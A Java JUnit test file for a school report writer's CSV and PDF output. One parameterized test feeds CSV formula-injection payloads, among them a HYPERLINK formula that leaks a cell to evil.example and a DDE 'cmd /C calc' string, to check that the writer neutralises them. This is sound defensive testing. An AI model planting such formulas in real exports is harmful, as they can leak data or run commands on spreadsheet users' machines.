package app.cascade.tables;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.openpdf.text.pdf.PdfReader;
import org.openpdf.text.pdf.parser.PdfTextExtractor;

import java.io.StringReader;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

public class ReportWriterTest {

    record Line(String name, Integer count) {
    }

    static final ReportTable<Line> TABLE = ReportTable.of(ReportTable.column("Name", Line::name),
            ReportTable.column("Count", Line::count));

    @Test
    void csv_has_a_bom_the_headers_and_quotes_what_needs_quoting() throws Exception {
        byte[] csv = ReportWriter.csv(TABLE, List.of(new Line("Lakeside High, \"North\"", 3), new Line(null, null)));

        assertThat(csv[0] & 0xFF).isEqualTo(0xEF);
        assertThat(parse(csv)).containsExactly(List.of("Name", "Count"),
                List.of("Lakeside High, \"North\"", "3"), List.of("", ""));
    }

    /** OWASP's formula triggers (= + - @ tab CR) and ASVS's NUL, each in front of a payload. */
    @ParameterizedTest
    @ValueSource(strings = {"=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+SUM(1+1)*cmd|' /C calc'!A0",
            "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\0=1+1"})
    void a_text_cell_that_starts_with_a_formula_trigger_gets_a_single_quote_in_front(String payload)
            throws Exception {
        byte[] table = ReportWriter.csv(TABLE, List.of(new Line(payload, 1)));
        byte[] rows = ReportWriter.csv(List.of("Name", "Count"), List.of(List.of(payload, "1")));

        assertThat(parse(table)).containsExactly(List.of("Name", "Count"), List.of("'" + payload, "1"));
        assertThat(rows).isEqualTo(table);
        // the raw line: the cell starts with the quote (inside the CSV quotes when the cell needs quoting)
        String raw = new String(table, StandardCharsets.UTF_8).lines().skip(1).findFirst().orElseThrow();
        assertThat(raw).startsWith(raw.startsWith("\"") ? "\"'" : "'");
    }

    @Test
    void a_cell_with_a_trigger_and_a_comma_is_quoted_and_parses_back_as_one_cell() throws Exception {
        byte[] csv = ReportWriter.csv(List.of("Name"), List.of(List.of("=1+1,=2+2")));

        assertThat(new String(csv, StandardCharsets.UTF_8)).endsWith("\"'=1+1,=2+2\"\r\n");
        assertThat(parse(csv)).containsExactly(List.of("Name"), List.of("'=1+1,=2+2"));
    }

    @Test
    void text_without_a_leading_trigger_is_written_as_it_is() throws Exception {
        List<String> harmless = List.of("Labs", "A-1", "x=1", "", " =1", "'quoted", "1+1", "SUM(A1)");

        byte[] csv = ReportWriter.csv(List.of("Name"), harmless.stream().map(List::of).toList());

        assertThat(parse(csv).stream().skip(1).map(List::getFirst)).containsExactlyElementsOf(harmless);
    }

    /** Numbers stay numbers: a spreadsheet reads "-5" as minus five, never as a formula; text "-5" is neutralised. */
    @Test
    void a_number_cell_is_written_as_it_is_and_text_that_looks_like_a_number_is_neutralised() throws Exception {
        record Value(String label, Number amount) {
        }
        ReportTable<Value> table = ReportTable.of(ReportTable.column("Label", Value::label),
                ReportTable.column("Amount", Value::amount));

        byte[] csv = ReportWriter.csv(table, List.of(new Value("-5", -5), new Value("+2", new BigDecimal("-2.50")),
                new Value("x", 0L)));

        assertThat(parse(csv)).containsExactly(List.of("Label", "Amount"), List.of("'-5", "-5"),
                List.of("'+2", "-2.50"), List.of("x", "0"));
    }

    @Test
    void an_empty_pdf_says_what_nothing_here_means() throws Exception {
        byte[] pdf = ReportWriter.pdf("Title", "Subtitle", TABLE, List.of(), "Nothing to see in 26-27.");

        assertThat(new String(pdf, 0, 4, StandardCharsets.US_ASCII)).isEqualTo("%PDF");
        try (PdfReader reader = new PdfReader(pdf)) {
            assertThat(new PdfTextExtractor(reader).getTextFromPage(1)).contains("Title", "Name", "Count",
                    "Nothing to see in 26-27.");
        }
    }

    /** Letter is 8.5 × 11 in: 612 × 792 points, here turned to landscape. */
    @Test
    void a_pdf_is_us_letter_landscape() throws Exception {
        try (PdfReader reader = new PdfReader(ReportWriter.pdf("Title", "Subtitle", TABLE, List.of(), "None."))) {
            assertThat(reader.getPageSizeWithRotation(1).getWidth()).isEqualTo(792f);
            assertThat(reader.getPageSizeWithRotation(1).getHeight()).isEqualTo(612f);
        }
    }

    /**
     * Twelve columns of long words, which OpenPDF broke inside ("Assign ments", "…_PUS H") when the widths were fixed
     * shares: each header and each cell word is on one line, and so is a hyphenated number (no break after "-").
     */
    @Test
    void every_word_of_a_crowded_table_stays_on_one_line() throws Exception {
        List<String> headers = List.of("School", "Course number", "Course name", "Section", "Data type", "Item",
                "Outcome", "Reason", "Assignments", "Scores", "Posted grades", "Comments", "Details");
        List<String> row = List.of("Lakeside High School", "ENG101-B-LONGER", "English Language Arts 9 Honors", "1",
                "Grading Tasks/Standards", "Q1 Quarter 1", "Kept as course managed", "SKIPPED_IGNORE_MASTER_PUSH",
                "12", "340", "17", "5", "Not overwritten because it has assignments or posted grades");
        List<List<String>> rows = java.util.Collections.nCopies(40, row);

        byte[] pdf = ReportWriter.pdf("Crowded", ReportHeader.sentence("Forty rows"), List.of(), headers, rows,
                "None.");

        List<String> words = new java.util.ArrayList<>(headers.stream().flatMap(h -> List.of(h.split(" ")).stream())
                .toList());
        row.forEach(cell -> words.addAll(List.of(cell.split(" "))));
        try (PdfReader reader = new PdfReader(pdf)) {
            String text = new PdfTextExtractor(reader).getTextFromPage(1);
            assertThat(wordsBrokenAcrossLines(text, words)).as("words broken across lines in:%n%s", text).isEmpty();
        }
    }

    /**
     * The words that no line of the extracted text holds whole: a word broken across lines ("Assign" / "ments").
     * (The extractor joins the cells of one line without spaces, so a whole word is found inside a line.)
     */
    public static List<String> wordsBrokenAcrossLines(String text, List<String> words) {
        List<String> lines = text.lines().toList();
        return words.stream().filter(w -> lines.stream().noneMatch(l -> l.contains(w))).distinct().toList();
    }

    @Test
    void the_header_block_lists_its_fields_the_row_count_and_the_counts_of_counted_columns() throws Exception {
        record Change(String item, String kind) {
        }
        ReportTable<Change> table = ReportTable.of(ReportTable.column("Item", Change::item),
                ReportTable.counted("Change", Change::kind));

        byte[] pdf = ReportWriter.pdf("Changes", ReportHeader.of(ReportHeader.field("School year", "26-27"),
                        ReportHeader.field("Catalog", "High School Catalog")), table,
                List.of(new Change("Labs", "Added"), new Change("Tests", "Added"), new Change("Quizzes", "Removed")),
                "None.");

        try (PdfReader reader = new PdfReader(pdf)) {
            String text = new PdfTextExtractor(reader).getTextFromPage(1);
            assertThat(text).contains("School year", "26-27", "Catalog", "High School Catalog", "Rows 3",
                    "Added: 2 · Removed: 1");
        }
    }

    @Test
    void file_names_are_slugs_and_a_table_needs_a_column() {
        assertThat(ReportWriter.fileName("course-audit in High School Catalog for 26-27", "pdf"))
                .isEqualTo("course-audit-in-high-school-catalog-for-26-27.pdf");
        assertThatThrownBy(() -> new ReportTable<Line>(List.of())).isInstanceOf(IllegalArgumentException.class);
    }

    private static List<List<String>> parse(byte[] csv) throws Exception {
        String text = new String(csv, StandardCharsets.UTF_8).substring(1);
        try (CSVParser parser = CSVFormat.EXCEL.parse(new StringReader(text))) {
            return parser.getRecords().stream().map(CSVRecord::toList).toList();
        }
    }
}
